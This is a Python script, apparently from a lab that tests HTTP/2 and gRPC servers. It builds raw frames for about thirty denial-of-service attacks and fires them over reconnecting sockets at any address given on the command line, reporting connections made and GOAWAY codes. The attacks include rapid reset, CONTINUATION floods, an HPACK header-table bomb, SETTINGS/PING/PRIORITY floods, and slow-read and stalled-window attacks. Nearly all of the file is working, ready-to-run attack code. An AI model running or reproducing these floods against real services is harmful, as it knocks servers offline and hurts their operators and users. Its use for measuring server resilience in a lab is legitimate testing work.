"""HTTP/2 attacks as bytes, and what sends them: `python3 http2_attacks.py NAME ADDRESS PORT SECONDS [MESSAGE]` runs one over a few
connections, again and again, and prints as JSON how many connections it made, what it sent and which GOAWAYs it heard.

An attack is a function of a round's number to the bytes of that round; the preface and SETTINGS stand before the first.
"""

import json
import os
import selectors
import socket
import struct
import sys
import time
from typing import Callable, NamedTuple

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
CONNECTIONS = 4
RECONNECTS = 20  # a second, in each place: an attacker has other costs too
LARGEST_ID = 2**31 - 1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes((kind, flags)) + struct.pack("!I", stream) + payload


def literal(name: bytes, value: bytes, indexing: bool = False) -> bytes:
    """RFC 7541, 6.2, without Huffman coding."""
    def text(s: bytes) -> bytes:
        if len(s) < 127:
            return bytes((len(s),)) + s
        n, out = len(s) - 127, bytearray((127,))
        while n >= 128:
            out.append(n % 128 + 128)
            n //= 128
        return bytes(out) + bytes((n,)) + s
    return (b"\x40" if indexing else b"\0") + text(name) + text(value)


# :method POST, :scheme http, :authority x, a path that no pod serves.
REQUEST = b"\x83\x86\x01\x01x" + b"\x04\x05/none" + literal(b"content-type", b"application/grpc")
# The same for the lab's service.
ECHO = b"\x83\x86\x01\x01x" + b"\x04\x16/sluice.lab.Echo/Unary" + literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers")


def settings(*pairs: tuple) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack("!HI", key, value) for key, value in pairs))


HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings() + frame(SETTINGS, ACK, 0)
WINDOW = 4  # SETTINGS_INITIAL_WINDOW_SIZE


class Attack(NamedTuple):
    round: Callable[[int], bytes]
    hello: bytes = HELLO
    rounds: int = 10_000      # on one connection
    reads: bool = True        # what comes back
    pause: float = 0          # seconds between rounds


def streams(n: int, per_stream: Callable[[int], bytes], count: int = 200) -> bytes:
    """The n-th round of `count` streams."""
    return b"".join(per_stream(2 * (n * count + i) + 1) for i in range(count))


def headers(stream: int, block: bytes = REQUEST, end: bool = False) -> bytes:
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, block)


def message(stream: int, body: bytes) -> bytes:
    return frame(DATA, END_STREAM, stream, b"\0" + struct.pack("!I", len(body)) + body)


def first(n: int, once: bytes, then: bytes) -> bytes:
    return once if n == 0 else then


def with_window(n: int) -> bytes:
    """One byte of window for each of many answers, again and again."""
    if n == 0:
        return b"".join(headers(2 * i + 1, ECHO) + message(2 * i + 1, BODY) for i in range(50))
    return b"".join(frame(WINDOW_UPDATE, 0, 2 * i + 1, struct.pack("!I", 1)) for i in range(50))


BODY = b""  # of a request to the lab's service that asks for a long answer

ATTACKS = {
    # As many small requests as the fastest attack here: what honest load costs the others.
    "honest": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST, True), 10), pause=0.005),
    "rapid_reset": Attack(lambda n: streams(n, lambda s: headers(s) + frame(RST_STREAM, 0, s, struct.pack("!I", 8)))),
    # Every second call is taken back, as a client that hedges does, and far more of them than a pod bears on one connection.
    "pod_resets": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST, True) if s % 4 == 1 else
                                           headers(s) + frame(RST_STREAM, 0, s, struct.pack("!I", 8)), 40), pause=0.005),
    # DATA behind the end of the request.
    "provoked_reset": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST, True) + frame(DATA, 0, s, bytes(10)))),
    "continuation": Attack(lambda n: first(n, frame(HEADERS, 0, 1, REQUEST), frame(CONTINUATION, 0, 1, literal(b"a", b"b")) * 100)),
    "field_block": Attack(lambda n: first(n, frame(HEADERS, 0, 1, REQUEST),
                                          frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 16_000)) * 4)),
    "settings": Attack(lambda n: settings((WINDOW, 65_535 + n % 2)) * 1000),
    "ping": Attack(lambda n: frame(PING, 0, 0, b"12345678") * 1000),
    "priority": Attack(lambda n: frame(PRIORITY, 0, 1, bytes(5)) * 1000),
    "window_update": Attack(lambda n: frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1)) * 1000),
    "unknown_frame": Attack(lambda n: frame(0xfa, 0, 0, b"x" * 10) * 1000),
    "empty_data": Attack(lambda n: first(n, headers(1), frame(DATA, 0, 1) * 1000)),
    "tiny_data": Attack(lambda n: first(n, headers(1), frame(DATA, 0, 1, b"x") * 1000)),
    # Its windows allow little at once, and open at once.
    "padding": Attack(lambda n: first(n, headers(1), frame(DATA, PADDED, 1, b"\xc8x" + bytes(200)) * 200), pause=0.002),
    "unread_answers": Attack(lambda n: b"".join(frame(PING, 0, 0, b"12345678") * 90 + settings() * 9 for _ in range(10)), reads=False),
    # More than may be open, at once.
    "streams": Attack(lambda n: streams(n, headers)),
    # Behind the error of its first frame it goes on, deaf.
    "discarded": Attack(lambda n: frame(DATA, 0, 0, b"x" * 16_000) * 10, reads=False),
    "frame_size": Attack(lambda n: struct.pack("!I", 2**24 - 1)[1:] + bytes(6) + b"x" * 100_000),
    # An entry of nearly the whole table, named over and over.
    "header_list": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST + literal(b"bomb", b"b" * 3900, True) + b"\xbe" * 4000, True), 20)),
    "many_fields": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST + literal(b"a", b"") * 1000, True), 20)),
    "empty_name": Attack(lambda n: streams(n, lambda s: headers(s, REQUEST + literal(b"", b"x"), True), 20)),
    # A new size of the peer's table, down and up, in each block.
    "table_churn": Attack(lambda n: streams(n, lambda s: headers(s, b"\x20\x3f\xe1\x1f" + REQUEST, True), 20), pause=0.002),
    "last_stream_id": Attack(lambda n: headers(LARGEST_ID, REQUEST, True)),
    "dribble": Attack(with_window, hello=HELLO + settings((WINDOW, 1)), pause=0.02),
    # What nothing but time shows.
    "preface": Attack(lambda n: b"", hello=b"", pause=0.1),
    "settings_ack": Attack(lambda n: first(n, b"", frame(PING, 0, 0, b"12345678")), hello=HELLO[:-9], pause=0.1),
    "slow_headers": Attack(lambda n: first(n, headers(1)[:-5], b""), pause=0.1),
    "stalled_stream": Attack(lambda n: first(n, b"".join(headers(2 * i + 1, ECHO) + message(2 * i + 1, BODY) for i in range(20)),
                                             frame(PING, 0, 0, b"12345678")), hello=HELLO + settings((WINDOW, 0)), pause=0.1),
    "slow_read": Attack(lambda n: first(n, b"".join(headers(2 * i + 1, ECHO) + message(2 * i + 1, BODY) for i in range(100)), b""),
                        hello=HELLO + settings((WINDOW, LARGEST_ID)) + frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", LARGEST_ID - 65_535)),
                        pause=0.1, reads=False),
}


class Connection:
    def __init__(self, attack: Attack, target: tuple) -> None:
        self.attack, self.n, self.due, self.got = attack, 0, 0.0, b""
        self.socket = socket.socket()
        if not attack.reads:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.socket.settimeout(5)
        self.socket.connect(target)
        self.socket.setblocking(False)
        self.pending = memoryview(attack.hello)
        self.sent = 0
        self.codes: list = []

    def step(self, now: float) -> bool:
        """False when the connection has ended."""
        try:
            if self.attack.reads:
                self.read()
            if not self.pending and self.n < self.attack.rounds and now >= self.due:
                self.pending = memoryview(self.attack.round(self.n))
                self.n += 1
                self.due = now + self.attack.pause
            if self.pending:
                n = self.socket.send(self.pending)
                self.sent += n
                self.pending = self.pending[n:]
        except BlockingIOError:
            pass
        except OSError:
            try:
                self.read()  # the last words
            except OSError:
                pass
            return False
        return True

    def read(self) -> None:
        try:
            while True:
                some = self.socket.recv(65_536)
                if not some:
                    raise ConnectionResetError
                self.got += some
        except BlockingIOError:
            pass
        finally:
            while len(self.got) >= 9:
                size = int.from_bytes(self.got[:3], "big")
                if len(self.got) < 9 + size:
                    break
                if self.got[3] == GOAWAY:
                    self.codes.append(int.from_bytes(self.got[13:17], "big"))
                self.got = self.got[9 + size:]


def run(name: str, target: tuple, seconds: float) -> dict:
    attack = ATTACKS[name]
    end = time.monotonic() + seconds
    connections = [Connection(attack, target) for _ in range(CONNECTIONS)]
    made, sent, codes, ended = len(connections), 0, [], 0
    selector = selectors.DefaultSelector()
    for c in connections:
        selector.register(c.socket, selectors.EVENT_WRITE)
    next_one = time.monotonic()
    while (now := time.monotonic()) < end:
        selector.select(0.01)
        for c in list(connections):
            if c.step(now):
                continue
            ended += 1
            sent += c.sent
            codes += c.codes
            selector.unregister(c.socket)
            c.socket.close()
            connections.remove(c)
        while len(connections) < CONNECTIONS and now >= next_one:
            connections.append(Connection(attack, target))
            selector.register(connections[-1].socket, selectors.EVENT_WRITE)
            made += 1
            next_one = now + 1 / RECONNECTS / CONNECTIONS
        if attack.pause:
            time.sleep(attack.pause)
    for c in connections:
        sent += c.sent
        codes += c.codes
        c.socket.close()
    return {"connections": made, "ended": ended, "sent": sent, "goaways": {str(code): codes.count(code) for code in sorted(set(codes))}}


if __name__ == "__main__":
    os.nice(19)  # on one core with pods and clients, whose time is measured
    BODY = bytes.fromhex(sys.argv[5]) if len(sys.argv) > 5 else b""
    print(json.dumps(run(sys.argv[1], (sys.argv[2], int(sys.argv[3])), float(sys.argv[4]))))
